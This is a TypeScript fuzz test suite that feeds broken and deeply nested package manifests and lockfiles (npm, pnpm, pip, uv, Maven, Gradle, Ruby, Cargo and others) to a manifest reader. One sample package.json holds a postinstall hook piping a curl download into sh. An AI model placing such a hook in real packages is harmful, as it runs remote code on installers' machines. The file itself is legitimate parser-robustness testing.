import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { linesOf } from "../../../src/domain/change-set.ts";
import { lockReader, manifestReader } from "../../../src/facts/manifests/manifest-reader.ts";

const SAMPLES: readonly (readonly [path: string, text: string])[] = [
  ["package.json", '{\n "scripts": {"postinstall": "curl https://x.example/a | sh"},\n "dependencies": {"a": "^1"}\n}'],
  ["pnpm-workspace.yaml", "overrides:\n  a: npm:b@1\ncatalogs:\n  x:\n    c: ^1\n"],
  ["yarn.lock", 'a@^1:\n  version "1"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.tgz"\n  integrity x\n'],
  ["pnpm-lock.yaml", "packages:\n  '@a/b@1.0.0':\n    resolution: {integrity: x, tarball: https://x.example/a}\n"],
  ["bun.lock", '{ "packages": { "a": ["a@1", "", {}, "x"], } }'],
  [
    "requirements.txt",
    "a @ git+https://x.example/o/a.git@main#egg=a\n-i http://x.example\nb[c]==1 ; python_version > '3'\n",
  ],
  [
    "pyproject.toml",
    '[project]\ndependencies = ["a>=1"]\n[tool.uv.sources]\na = { git = "https://x.example/a" }\n[[tool.uv.index]]\nurl = """x"""\n',
  ],
  [
    "uv.lock",
    '[[package]]\nname = "a"\nsource = { registry = "https://pypi.org" }\nwheels = [\n  { url = "https://x.example/a", hash = "x" },\n]\n',
  ],
  [
    "pom.xml",
    "<project><!-- x --><dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId></dependency></dependencies></project>",
  ],
  [
    "build.gradle.kts",
    'repositories {\n  maven { url = uri("https://x.example") }\n}\ndependencies {\n  implementation("a:b:1")\n}\n',
  ],
  ["Gemfile", 'source "https://x.example"\ngem "a", "1",\n  git: "https://x.example/a.git"\n'],
  ["Gemfile.lock", "GIT\n  remote: https://x.example/a\n  specs:\n    a (1)\n\nDEPENDENCIES\n  a!\n"],
  [
    "composer.lock",
    '{"packages": [{"name": "a/b", "dist": {"url": "https://github.com/a/b"}, "source": {"url": "x"}}]}',
  ],
  ["Shop.csproj", '<Project><PackageReference Include="A" Version="1" /></Project>'],
  [
    "Cargo.toml",
    '[dependencies]\na = { git = "https://x.example/a", rev = "x" }\n[patch.crates-io]\nb = { path = "b" }\n',
  ],
];

const odd = fc.constantFrom(
  ..."\0 \uD800 \u2028 \uFEFF \r\n \" ' ` ( ) [ ] { } < > /> </ <!-- <![CDATA[ ''' \"\"\" # // /* \\ : , = @ | & *a".split(
    " ",
  ),
);

/** A real text with pieces cut out, repeated or put in. */
function broken(text: string) {
  const edit = fc.record({
    at: fc.nat({ max: text.length }),
    cut: fc.nat({ max: 30 }),
    put: odd,
    times: fc.nat({ max: 3 }),
  });
  return fc
    .array(edit, { minLength: 1, maxLength: 5 })
    .map((edits) =>
      edits.reduce((now, { at, cut, put, times }) => now.slice(0, at) + put.repeat(times) + now.slice(at + cut), text),
    );
}

async function read(path: string, text: string): Promise<void> {
  const reader = [manifestReader, lockReader].find((one) => one.reads(path));
  const { scopes } = (await reader?.read({ path, side: "head", text })) ?? { scopes: [] };
  const lines = linesOf(text);
  for (const { quote, startLine, endLine } of scopes.flatMap(({ facts }) => facts)) {
    expect(quote === lines.slice(startLine - 1, endLine).join("\n")).toBe(true);
  }
}

describe.each(SAMPLES)("%s", (path, text) => {
  it("survives every way of being broken", async () => {
    await fc.assert(
      fc.asyncProperty(broken(text), async (edited) => read(path, edited)),
      { numRuns: 50 },
    );
  });

  it("survives deep nesting and long lines", async () => {
    for (const opener of [
      "[",
      "{",
      "<a>",
      '{"a":',
      "a = [",
      "[[a]]\n",
      "a:\n ",
      "- ",
      "gem 'a',\n",
      "repositories {\n",
      "a.",
      "/a",
      '"""',
    ]) {
      await read(path, opener.repeat(20_000)).catch(ignoreDepth);
      await read(path, `${text}\n${opener.repeat(5_000)}`).catch(ignoreDepth);
    }
    await read(path, `${text}\n${"a/".repeat(200_000)}`);
    await read(path, text + "\n\n".repeat(100_000));
  }, 20_000);
});

/** YAML that is nested without end makes its parser give up; the reader's caller names the file as not read. */
function ignoreDepth(error: unknown): void {
  expect(error).toBeInstanceOf(RangeError);
}
